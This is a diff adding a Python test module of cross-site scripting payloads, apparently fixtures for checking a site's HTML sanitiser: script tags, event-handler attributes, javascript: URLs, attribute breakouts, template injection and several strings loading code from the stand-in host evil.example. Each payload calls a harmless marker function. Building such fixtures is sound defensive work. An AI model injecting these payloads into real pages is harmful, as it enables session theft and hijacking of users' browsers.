@@ -1,0 +1,83 @@
+"""Texts that would run in a reader's browser if a page of ours let them: each calls `ran()`."""
+
+from __future__ import annotations
+
+__all__ = ["ADDRESSES", "PAYLOADS"]
+
+MARKUP = (
+    "<script>ran()</script>",
+    "<ScRiPt >ran()</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script/src=data:,ran()></script>",
+    "<<script>ran()//<</script>",
+    "<scr<script>ipt>ran()</scr</script>ipt>",
+    "</script><script>ran()</script>",
+    "</title><script>ran()</script>",
+    "</textarea><script>ran()</script>",
+    "</style><script>ran()</script>",
+    "--><script>ran()</script><!--",
+    "]]><script>ran()</script>",
+    "<img src=x onerror=ran()>",
+    "<img/src=x/onerror=ran()>",
+    '<img src="x" onerror="ran()" alt="',
+    "<img src=x onerror=&#114;an()>",
+    "<IMG SRC=javascript:ran()>",
+    "<img src=//evil.example/pixel.gif>",
+    "<svg onload=ran()>",
+    "<svg><script>ran()</script></svg>",
+    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
+    "<math><mi xlink:href=javascript:ran()>x</mi></math>",
+    "<body onload=ran()>",
+    "<iframe src=javascript:ran()></iframe>",
+    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+    "<object data=javascript:ran()></object>",
+    "<embed src=javascript:ran()>",
+    "<video><source onerror=ran()></video>",
+    "<audio src=x onerror=ran()>",
+    "<details open ontoggle=ran()>x</details>",
+    "<input autofocus onfocus=ran()>",
+    "<select autofocus onfocus=ran()>",
+    "<marquee onstart=ran()>x</marquee>",
+    "<a href=javascript:ran()>x</a>",
+    "<a href=&#106;avascript:ran()>x</a>",
+    "<form action=javascript:ran()><button>x</button></form>",
+    "<button formaction=javascript:ran()>x</button>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<div style=background:url(//evil.example/x)>x</div>",
+    "<template><script>ran()</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
+    "<plaintext>",
+    "<!--",
+)
+BREAKING_OUT = (
+    '" onmouseover="ran()" autofocus onfocus="ran()" x="',
+    "' onmouseover='ran()' autofocus onfocus='ran()' x='",
+    '"><img src=x onerror=ran()>',
+    "'><img src=x onerror=ran()>",
+    "`-ran()-`",
+    "';ran();//",
+    "{{constructor.constructor('ran()')()}}",
+    "{% for x in () %}{% endfor %}{{ 7 * 7 }}",
+    "\u2028ran()//",
+    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
+    "\ufeff<script>ran()</script>",
+    "&lt;script&gt;ran()&lt;/script&gt;",
+    "[x](javascript:ran()) <javascript:ran()>",
+)
+ADDRESSES = (
+    "javascript:ran()",
+    "JaVaScRiPt:ran()",
+    "java\tscript:ran()",
+    " javascript:ran()",
+    "data:text/html,<script>ran()</script>",
+    "vbscript:ran()",
+    "//evil.example/",
+    'https://evil.example/"onclick=ran()//',
+)
+"""Where a source says that it is published."""
+
+PAYLOADS = (*MARKUP, *BREAKING_OUT)
